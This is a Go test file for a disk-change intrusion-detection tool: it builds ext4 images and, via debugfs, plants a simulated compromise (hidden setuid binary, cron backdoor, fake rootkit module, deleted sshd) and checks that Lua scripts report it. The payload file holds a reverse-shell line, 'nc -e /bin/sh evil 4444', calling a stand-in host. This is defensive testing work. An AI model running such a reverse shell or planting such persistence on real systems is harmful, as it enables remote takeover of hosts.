package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// The disk examples through the command line, on real ext4 images that
// e2fsprogs changed (--disk BEFORE --disk-after AFTER). The NBD tap with a
// live guest is integration/diske2e's job.

func needTools(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s not found: install e2fsprogs (make disk-deps)", tool)
		}
	}
}

func sh(t *testing.T, name string, args ...string) {
	t.Helper()
	if out, err := exec.Command(name, args...).CombinedOutput(); err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
}

// systemImages makes an ext4 image shaped like a Debian root (binaries,
// modules, cron) and a copy an intruder changed with debugfs.
func systemImages(t *testing.T) (before, after string) {
	needTools(t, "mkfs.ext4", "debugfs")
	dir := t.TempDir()
	tree := filepath.Join(dir, "tree")
	for _, d := range []string{"root", "usr/bin", "usr/sbin", "lib/modules/6.1.0/kernel", "etc/cron.d"} {
		if err := os.MkdirAll(filepath.Join(tree, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for f, body := range map[string]string{"root/bar": "x", "usr/bin/ls": "ELF", "usr/sbin/sshd": "ELF", "etc/cron.d/e2scrub": "30 3 * * 0 root e2scrub_all"} {
		if err := os.WriteFile(filepath.Join(tree, f), []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	before = filepath.Join(dir, "before.img")
	sh(t, "mkfs.ext4", "-q", "-F", "-b", "4096", "-d", tree, before, "32M")
	data, err := os.ReadFile(before)
	if err != nil {
		t.Fatal(err)
	}
	after = filepath.Join(dir, "after.img")
	if err := os.WriteFile(after, data, 0o600); err != nil {
		t.Fatal(err)
	}
	payload := filepath.Join(dir, "payload")
	if err := os.WriteFile(payload, []byte("#!/bin/sh\nnc -e /bin/sh evil 4444\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{
		"mkdir /root/foo", "write /dev/null /root/dummy", "rm /root/bar", // the paper's Program 5.2
		"write " + payload + " /usr/bin/.hidden", "sif /usr/bin/.hidden mode 0104755", // a setuid backdoor
		"write " + payload + " /etc/cron.d/backdoor",
		"mkdir /lib/modules/6.1.0/kernel/rootkit", "write " + payload + " /lib/modules/6.1.0/kernel/rootkit/rk.ko",
		"rm /usr/sbin/sshd",
	} {
		sh(t, "debugfs", "-w", "-R", cmd, after)
	}
	return before, after
}

func runCLI(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	var out, errOut strings.Builder
	code := run(args, &out, &errOut)
	return out.String(), errOut.String(), code
}

func TestDiskExamples(t *testing.T) {
	before, after := systemImages(t)
	out, errOut, code := runCLI(t, "../../scripts/examples/diskwatch.lua", "--disk", before, "--disk-after", after, "--", "/root")
	if code != exitOK || out != "MKDIR: /root/foo\nMKFILE: /root/dummy\nRMFILE: /root/bar\n" {
		t.Fatalf("diskwatch.lua: status %d, stdout %q, stderr %q", code, out, errOut)
	}
	out, errOut, code = runCLI(t, "../../scripts/examples/disk-ids.lua", "--disk", before, "--disk-after", after, "--json")
	if code != exitOK {
		t.Fatalf("disk-ids.lua: status %d, stderr %q", code, errOut)
	}
	type event struct {
		Guest, Op, Path, Mode, Type, Time string
		Size, UID                         *int
	}
	var events []event
	for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		var e event
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("disk-ids.lua --json wrote %q: %v", line, err)
		}
		if e.Guest != filepath.Base(before) || e.Time != "" {
			t.Errorf("record %q: guest %q, time %q; want guest %q and no time (two images compared, not a live disk)", line, e.Guest, e.Time, filepath.Base(before))
		}
		if strings.HasPrefix(e.Path, "/root/") {
			t.Errorf("disk-ids.lua reported a folder it does not watch: %q", line)
		}
		events = append(events, e)
	}
	for _, want := range []struct {
		op, path, mode, typ string
		size                int
	}{
		{"MKFILE", "/usr/bin/.hidden", "4755", "file", 34},
		{"RMFILE", "/usr/sbin/sshd", "0755", "file", 3},
		{"MKFILE", "/etc/cron.d/backdoor", "", "file", 34},
		{"MKDIR", "/lib/modules/6.1.0/kernel/rootkit", "", "dir", -1},
		{"MKFILE", "/lib/modules/6.1.0/kernel/rootkit/rk.ko", "", "file", 34},
	} {
		found := false
		for _, e := range events {
			if e.Op == want.op && e.Path == want.path && (want.mode == "" || e.Mode == want.mode) && e.Type == want.typ &&
				(want.size < 0 || e.Size != nil && *e.Size == want.size) && e.UID != nil && *e.UID == 0 {
				found = true
			}
		}
		if !found {
			t.Errorf("disk-ids.lua did not report %+v; it wrote:\n%s", want, out)
		}
	}
	// The disk flags without --disk are a usage error.
	if _, errOut, code := runCLI(t, "../../scripts/examples/diskwatch.lua", "--nbd", "x.sock"); code != exitUsage || !strings.Contains(errOut, "need --disk") {
		t.Fatalf("--nbd without --disk: status %d, %q", code, errOut)
	}
	// Not a file system: one line naming the image.
	junk := filepath.Join(t.TempDir(), "junk.img")
	os.WriteFile(junk, make([]byte, 1<<20), 0o600)
	if _, errOut, code := runCLI(t, "../../scripts/examples/diskwatch.lua", "--disk", junk); code != exitTarget ||
		!strings.Contains(errOut, "junk.img") || !strings.Contains(errOut, "no ext2/3/4 file system") || strings.Count(errOut, "\n") != 1 {
		t.Fatalf("junk image: status %d, %q", code, errOut)
	}
}
